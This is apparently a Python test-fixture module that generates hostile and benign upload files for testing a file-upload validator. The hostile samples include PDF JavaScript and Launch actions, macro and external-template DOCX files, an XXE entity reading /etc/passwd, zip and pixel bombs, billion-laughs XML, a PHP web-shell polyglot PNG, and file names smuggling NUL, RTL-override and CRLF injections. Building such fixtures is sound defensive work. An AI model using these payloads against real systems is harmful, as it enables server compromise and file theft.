"""Hostile and good upload files, all built in code: PDFs with actions, Office packages with macros,
external links, HTML or DTDs, zip bombs, image polyglots and pixel bombs, and names that lie."""
from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from openpyxl import Workbook
from PIL import Image

PDF = (b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
       b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
       b"trailer\n<< /Root 1 0 R >>\n%%EOF\n")


def pdf_with(catalog_extra: bytes, *objects: bytes) -> bytes:
    body = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>\nendobj\n"
    body += b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    for number, obj in enumerate(objects, start=3):
        body += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    return body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


def pdf_with_object_stream(hidden: bytes) -> bytes:
    packed = zlib.compress(b"3 0 " + hidden)
    stream = (b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
              + packed + b"\nendstream")
    return pdf_with(b"", stream)


def image(fmt: str, size=(64, 48)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, format=fmt)
    return out.getvalue()


def png_with_text(text: bytes) -> bytes:
    data = image("PNG")
    chunk = b"tEXt" + b"Comment\x00" + text
    packed = struct.pack(">I", len(chunk) - 4) + chunk + struct.pack(">I", zlib.crc32(chunk))
    return data[:33] + packed + data[33:]  # after the 8-byte signature and the 25-byte IHDR chunk


def png_header_only(width: int, height: int) -> bytes:
    header = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = b"IDAT" + zlib.compress(b"\x00" * 64)
    return (b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + header + struct.pack(">I", zlib.crc32(header))
            + struct.pack(">I", len(idat) - 4) + idat + struct.pack(">I", zlib.crc32(idat))
            + struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND")))


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>{extra}'
    '<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{doctype}'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>外包项目报备{entity}</w:t></w:r></w:p></w:body></w:document>"
)
EXTERNAL_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://attacker.invalid/t.dotm" TargetMode="External"/></Relationships>'
)


def docx(main: str = DOCX_MAIN, content_type_extra: str = "", doctype: str = "", entity: str = "",
         **parts: str | bytes) -> bytes:
    files = {"[Content_Types].xml": CONTENT_TYPES.format(main=main, extra=content_type_extra), "_rels/.rels": RELS,
             "word/document.xml": DOCUMENT.format(doctype=doctype, entity=entity)}
    files.update({name.replace("__", "/").replace("_DOT_", "."): value for name, value in parts.items()})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in files.items():
            package.writestr(name, content)
    return out.getvalue()


def docx_bomb(unpacked_mb: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in (("[Content_Types].xml", CONTENT_TYPES.format(main=DOCX_MAIN, extra="")),
                              ("_rels/.rels", RELS), ("word/document.xml", DOCUMENT.format(doctype="", entity=""))):
            package.writestr(name, content)
        with package.open("word/media/padding.xml", "w") as padding:
            block = b" " * (1 << 20)
            for _ in range(unpacked_mb):
                padding.write(block)
    return out.getvalue()


def xlsx(*rows) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def xlsx_with_entities() -> bytes:
    """A workbook whose shared strings declare entities that expand a billion times ("billion laughs")."""
    source = zipfile.ZipFile(io.BytesIO(xlsx(["name"], ["&lol9;"])))
    out = io.BytesIO()
    laughs = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)) + "]>"
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = laughs.encode() + data.replace(b"&amp;lol9;", b"&lol9;")
            target.writestr(info, data)
    return out.getvalue()


@dataclass(frozen=True)
class Sample:
    label: str
    data: bytes
    name: str


def hostile() -> list[Sample]:
    """Every file here must be refused by every upload route."""
    js = b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
    return [
        Sample("html-after-pdf-header-named-html", b"%PDF-1.4\n<html><script>alert(1)</script></html>", "a.html"),
        Sample("html-after-pdf-header-named-pdf", b"%PDF-1.4\n<html><script>alert(1)</script></html>", "a.pdf"),
        Sample("pdf-openaction-javascript", pdf_with(js), "a.pdf"),
        Sample("pdf-javascript-hex-escaped-name", pdf_with(b"/Names << /J#61vaScript 3 0 R >>",
                                                           b"<< /S /J#61vaScript /J#53 (x) >>"), "a.pdf"),
        Sample("pdf-launch", pdf_with(b"", b"<< /S /Launch /F (cmd.exe) >>"), "a.pdf"),
        Sample("pdf-additional-actions", pdf_with(b"/AA << /O 3 0 R >>", b"<< /S /URI /URI (x) >>"), "a.pdf"),
        Sample("pdf-embedded-file", pdf_with(b"/Names << /EmbeddedFiles 3 0 R >>", b"<< /Names [] >>"), "a.pdf"),
        Sample("pdf-richmedia", pdf_with(b"", b"<< /Type /RichMedia >>"), "a.pdf"),
        Sample("pdf-javascript-in-object-stream", pdf_with_object_stream(b"<< /S /JavaScript /JS (x) >>"), "a.pdf"),
        Sample("pdf-second-pdf-header", PDF + PDF, "a.pdf"),
        Sample("pdf-zip-polyglot", PDF + docx(), "a.pdf"),
        Sample("pdf-named-docx", PDF, "a.docx"),
        Sample("jpeg-named-pdf", image("JPEG"), "a.pdf"),
        Sample("name-nul-hides-html", PDF, "a.pdf\x00.html"),
        Sample("name-rtl-override-hides-html", PDF, "report\u202elmth.pdf.html"),
        Sample("name-crlf-header-injection", PDF, "a\r\nContent-Type: text/html\r\n.html"),
        Sample("docx-with-index-html", docx(index_DOT_html=b"<html><script>alert(1)</script></html>"), "a.docx"),
        Sample("docx-with-macros", docx(word__vbaProject_DOT_bin=b"\xd0\xcf\x11\xe0macro"), "a.docx"),
        Sample("docm-content-type", docx(main=DOCM_MAIN), "a.docx"),
        Sample("docx-external-template", docx(word___rels__document_DOT_xml_DOT_rels=EXTERNAL_RELS), "a.docx"),
        Sample("docx-activex", docx(word__activeX__activeX1_DOT_xml=b"<ax/>"), "a.docx"),
        Sample("docx-ole-object", docx(word__embeddings__oleObject1_DOT_bin=b"\xd0\xcf\x11\xe0"), "a.docx"),
        Sample("docx-doctype-entity", docx(doctype='<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
                                           entity="&x;"), "a.docx"),
        Sample("docx-expands-past-the-cap", docx_bomb(12), "a.docx"),
        Sample("docx-too-many-entries", docx(**{f"word__media__p{i}_DOT_xml": b"<p/>" for i in range(60)}), "a.docx"),
        Sample("xlsx-entities", xlsx_with_entities(), "a.xlsx"),
        Sample("png-pixel-bomb", png_header_only(100_000, 100_000), "a.png"),
        Sample("jpeg-truncated", image("JPEG")[:40], "a.jpg"),
        Sample("html-named-pdf", b"<html><script>alert(1)</script></html>", "a.pdf"),
    ]


def polyglots() -> list[Sample]:
    """Images carrying a second meaning: accepted only as the re-encoded image, the tail dropped."""
    return [
        Sample("jpeg-html-polyglot", image("JPEG") + b"<html><script>alert(1)</script></html>", "a.jpg"),
        Sample("png-php-polyglot", png_with_text(b"<?php system($_GET['c']); ?>"), "a.png"),
        Sample("png-html-tail", image("PNG") + b"<script>alert(1)</script>", "a.png"),
    ]


def good() -> list[Sample]:
    return [
        Sample("pdf", PDF, "合同.pdf"),
        Sample("jpeg", image("JPEG"), "photo.jpg"),
        Sample("png", image("PNG"), "photo.png"),
        Sample("docx", docx(), "plan.docx"),
        Sample("xlsx", xlsx(["项目", "卷"], ["LZWB-2026-0001", 120]), "list.xlsx"),
    ]


# Test caps that the bomb samples above exceed (the production defaults are larger).
LIMITS = {"UPLOAD_MAX_UNZIPPED_MB": 8, "UPLOAD_MAX_ZIP_ENTRIES": 50}
